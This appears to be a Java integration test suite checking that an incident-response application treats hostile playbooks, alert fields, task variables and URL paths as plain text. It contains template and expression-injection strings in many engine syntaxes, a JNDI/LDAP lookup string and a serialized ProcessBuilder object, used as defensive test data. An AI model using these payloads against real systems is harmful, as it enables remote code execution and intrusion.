package dev.firebreak.fence;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.firebreak.fence.FencedApp.Answer;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Everything people can hand in, against one running application: a folder with all hostile
 * playbooks, alerts, forms and addresses full of expressions. After each test the application is
 * looked into from outside for traces.
 */
class NoPlaybookRunsCodeIT {
  private final FencedApp app = HostileFolder.app();

  @AfterEach
  void nothingHasLeftATrace() {
    assertThat(app.tracesLeft()).isEmpty();
  }

  static List<HostileFile> hostilePlaybooks() {
    return HostileFile.playbooks();
  }

  @ParameterizedTest
  @MethodSource("hostilePlaybooks")
  void aHostilePlaybookIsRefusedWithALineAndASentence(HostileFile file) {
    JsonNode findings = app.get("/api/v1/playbooks").body().path("refused").path(file.playbook());

    assertThat(findings).as(file.place()).isNotEmpty();
    assertThat(findings.path(0).path("line").asInt()).isPositive();
    assertThat(findings)
        .allSatisfy(f -> assertThat(f.path("message").asText()).hasSizeGreaterThan(15));
  }

  @Test
  void onlyTheHarmlessPlaybookIsInForce() {
    JsonNode playbooks = app.get("/api/v1/playbooks").body();

    assertThat(playbooks.path("items").findValuesAsText("name"))
        .containsExactly(HostileFolder.HARMLESS);
    assertThat(playbooks.path("refused")).hasSize(HostileFile.playbooks().size());
  }

  @Test
  void anAlertForARefusedPlaybookIsAnIncidentThatSaysSo() {
    JsonNode story =
        app.incident(Map.of("uid", "u-1", "rule", "asks-for-p33-shell", "severity", "high"));

    JsonNode run = story.path("runs").path(0);
    assertThat(run.path("state").asText()).isEqualTo("stuck");
    assertThat(run.path("problem").asText()).contains("p33-shell", "not in force");
  }

  /** One of each language that something on the way could speak. */
  private static String inEachLanguage() {
    return "${@} #{@} {{@}} <%= @ %> %{@} *{@} [[${@}]] [# th:text=\"${@}\"/] <#assign x=@>${x} #set($x=@)$x = @"
        .replace("@", Traces.SUM);
  }

  @Test
  void anAlertFullOfExpressionsStaysTextInTheIncidentTheTaskAndTheTicket() {
    String title = inEachLanguage();
    String el = "${" + Traces.setsProperty("alert") + "} #{" + Traces.setsProperty("alert") + "}";
    String lookUp = "${jndi:ldap://" + app.traces().address() + "/x} ${env:HOME} ${incident.id}";
    String feel = "\" or true or \"\", for i in 1..3 return " + Traces.SUM;
    JsonNode story =
        app.incident(
            Map.of(
                "uid",
                "u-2 " + lookUp,
                "rule",
                feel,
                "title",
                title,
                "description",
                el + title + lookUp,
                "severity",
                "critical",
                "targets",
                List.of(Map.of("type", "wallet", "id", "${" + Traces.SUM + "}")),
                "observables",
                List.of(Map.of("name", "${" + Traces.SUM + "}", "value", el)),
                "attributes",
                Map.of("el", el, "${" + Traces.SUM + "}", "#{" + Traces.SUM + "}")));
    String incident = story.path("incident").path("id").asText();
    JsonNode task = app.task(incident);
    String note = "note " + el;
    Answer completed = app.complete(task, Map.of("verdict", "${" + Traces.SUM + "}", "note", note));
    JsonNode ticket = app.ticket(incident);

    assertThat(story.path("incident").path("title").asText()).isEqualTo(title);
    assertThat(task.path("name").asText()).isEqualTo("Look at " + title);
    assertThat(task.path("documentation").asText()).isEqualTo("Rule " + feel);
    assertThat(completed.status()).isEqualTo(200);
    assertThat(ticket.path("summary").asText()).isEqualTo(title);
    assertThat(String.join("\n", ticket.path("description").findValuesAsText("text")))
        .contains(
            note + " / u-2 " + lookUp + " / " + feel + " / " + el + " / ${" + Traces.SUM + "} / ")
        .doesNotContain(Traces.PRODUCT);
    assertThat(app.story(incident).toString()).doesNotContain(Traces.PRODUCT);
    assertThat(app.get("/api/v1/incidents/" + incident + "/timeline").body().toString())
        .doesNotContain(Traces.PRODUCT);
    assertThat(app.log()).doesNotContain(Traces.PRODUCT);
  }

  @Test
  void aVariableThatIsNamedLikeAnExpressionIsRefusedAndTheTaskStaysOpen() {
    JsonNode story = app.incident(Map.of("uid", "u-3", "rule", "any", "severity", "low"));
    JsonNode task = app.task(story.path("incident").path("id").asText());

    Answer answer = app.complete(task, Map.of("${" + Traces.setsProperty("name") + "}", "yes"));

    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.body().path("detail").asText()).contains("letters, digits and underscores");
    assertThat(app.items("/api/v1/tasks")).contains(task);
  }

  @Test
  void aVariableThatIsNoPlainValueIsRefused() {
    JsonNode story = app.incident(Map.of("uid", "u-4", "rule", "any", "severity", "low"));
    JsonNode task = app.task(story.path("incident").path("id").asText());

    Answer answer =
        app.complete(
            task,
            Map.of(
                "note",
                Map.of(
                    "type", "Object",
                    "value", "rO0ABQ==",
                    "valueInfo",
                        Map.of(
                            "objectTypeName", "java.lang.ProcessBuilder",
                            "serializationDataFormat", "application/x-java-serialized-object"))));

    assertThat(answer.status()).isEqualTo(400);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/api/v1/incidents?limit=5&state=@",
        "/api/v1/incidents/@",
        "/api/v1/incidents/@/timeline",
        "/api/v1/containments?state=@",
        "/api/v1/approvals?state=@",
        "/api/v1/tasks?name=@&orQueries=@",
        "/api/v1/@"
      })
  void anExpressionInAnAddressIsOnlyText(String path) {
    String expression = "${" + Traces.SUM + "}${" + Traces.setsProperty("query") + "}";

    Answer answer =
        app.get(path.replace("@", URLEncoder.encode(expression, StandardCharsets.UTF_8)));

    assertThat(answer.status()).isIn(200, 400, 404);
    assertThat(answer.body().toString()).doesNotContain(Traces.PRODUCT);
  }

  @Test
  void anExpressionInTheIdOfATaskIsOnlyText() {
    String expression = URLEncoder.encode("${" + Traces.SUM + "}", StandardCharsets.UTF_8);

    Answer answer = app.post("/api/v1/tasks/" + expression + "/complete", Map.of());

    assertThat(answer.status()).isEqualTo(404);
    assertThat(answer.body().toString()).doesNotContain(Traces.PRODUCT);
  }
}
